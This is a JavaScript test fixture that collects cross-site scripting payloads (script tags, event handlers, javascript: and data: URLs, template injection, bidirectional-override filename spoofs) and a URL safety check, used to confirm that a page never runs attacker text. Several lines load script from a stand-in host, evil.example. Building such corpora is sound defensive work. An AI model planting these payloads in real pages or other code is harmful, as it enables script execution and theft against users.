// The XSS corpus: text an attacker controls (a manifest, a catalog, an app's answer) shaped to
// run script or fake the page if it were ever treated as markup, a URL or a template. Every
// payload that could run calls `__xss(n)`; the tests install that and expect it never called.
// Lone surrogates cannot cross into Rust strings: they are expected back as U+FFFD
// (`String.prototype.toWellFormed`), everything else byte for byte.

const run = (n) => `__xss(${n})`;

export const PAYLOADS = [
  // Script elements, whole, split, nested, closing whatever came before.
  `<script>${run(1)}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${run(2)}</scr</script>ipt>`,
  `</title></bdi></span></button><script>${run(3)}</script>`,
  `"><script>${run(4)}</script>`,
  `'><script>${run(5)}</script>`,
  `<script type="module">import("//evil.example/m.js")</script>`,
  // Event handlers on every kind of element, in every casing.
  `<img src=x onerror=${run(6)}>`,
  `<IMG SRC=x OnErRoR=${run(7)}>`,
  `<svg onload=${run(8)}>`,
  `<svg><script>${run(9)}</script></svg>`,
  `<svg><animate onbegin=${run(10)} attributeName=x dur=1s>`,
  `<body onload=${run(11)}>`,
  `<iframe srcdoc="<script>parent.${run(12)}</script>"></iframe>`,
  `<details open ontoggle=${run(13)}>`,
  `<video><source onerror=${run(14)}></video>`,
  `<input autofocus onfocus=${run(15)}>`,
  `<marquee onstart=${run(16)}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run(17)}>`,
  `" onmouseover="${run(18)}`,
  `' onfocus='${run(19)}' autofocus x='`,
  `<a href="javascript:${run(20)}">tap</a>`,
  `<form action="javascript:${run(21)}"><button>go</button></form>`,
  `<object data="javascript:${run(22)}"></object>`,
  `<embed src="javascript:${run(23)}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run(24)}">`,
  `<base href="javascript:${run(25)}//">`,
  `<style>@import 'javascript:${run(26)}';*{background:url(javascript:${run(27)})}</style>`,
  `<template><img src=x onerror=${run(28)}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run(29)}>">`,
  // URL schemes as text, in every casing and with control characters inside.
  `javascript:${run(30)}`,
  `JaVaScRiPt:${run(31)}`,
  `java\tscript:${run(32)}`,
  `\u0001javascript:${run(33)}`,
  `data:text/html,<script>${run(34)}</script>`,
  `DATA:text/html;base64,PHNjcmlwdD5fX3hzcygzNSk8L3NjcmlwdD4=`,
  `vbscript:msgbox(36)`,
  `VbScRiPt:msgbox(37)`,
  // Template and format-string injection.
  `{{constructor.constructor('${run(38)}')()}}`,
  "${" + run(39) + "}",
  `{{7*7}} <%= 7*7 %> #{7*7} [[\${7*7}]] {0} %s%n%x`,
  `{% if 1 %}{{ config }}{% endif %}`,
  // Entities and escapes that must stay as written.
  `&lt;script&gt;${run(40)}&lt;/script&gt;`,
  `&#x3C;img src=x onerror=${run(41)}&#x3E;`,
  `\\u003cimg src=x onerror=${run(42)}\\u003e`,
  `<!-- ]]> --!> <![CDATA[ x ]]>`,
  // Bidirectional overrides and isolates, closed and left open.
  `\u202Egpj.exe\u202C`,
  `invoice\u202Efdp.exe`,
  `\u2066isolated\u2069 then \u2067more`,
  `\u200F\u202Bnested\u202C\u200E`,
  // Lone surrogates, control characters, invisibles.
  `lone \uD800 high`,
  `lone \uDC00 low \uDBFF\uDBFF`,
  `nul\u0000in the middle`,
  `tab\there, new\nline, bell\u0007`,
  `zero\u200Bwidth\uFEFFbom`,
  // Real text around markup: a name with an apostrophe, Arabic, emoji.
  `O'Brien & Sons "Best" <b>bold</b>`,
  `<b>مرحبا</b> بالعالم`,
  `👩🏽‍💻 <i onclick=${run(43)}>x</i>`,
];

/// A very long string: past every field's limit where there is one.
export const LONG = `${"A".repeat(10_000)}<img src=x onerror=${run(44)}>`;

/// URLs a catalog may send for a product's page or image. Only https and this page's origin
/// may become a link or an image; `safe(url, origin)` says which.
export const URLS = [
  `javascript:${run(50)}`,
  `JAVASCRIPT:${run(51)}`,
  ` javascript:${run(52)}`,
  `java\nscript:${run(53)}`,
  `java\u0000script:${run(54)}`,
  `\u0001javascript:${run(55)}`,
  `javascript&colon;${run(56)}`,
  `data:text/html,<script>${run(57)}</script>`,
  `Data:image/svg+xml,<svg onload=${run(58)}>`,
  `vbscript:msgbox(59)`,
  `VBScript:msgbox(60)`,
  `http://evil.example/p`,
  `//evil.example/p`,
  `ftp://evil.example/p`,
  `https://shop.example/products/ok?x=<script>`,
  `/media/products/p-watch.svg`,
  `https://shop.example/img.png" onerror="${run(61)}`,
];

/// Whether `url` may become an href or src on a page at `origin` (the engine's rule).
export function safe(url, origin) {
  try {
    const u = new URL(url, origin);
    return u.protocol === "https:" || u.origin === origin;
  } catch {
    return false;
  }
}
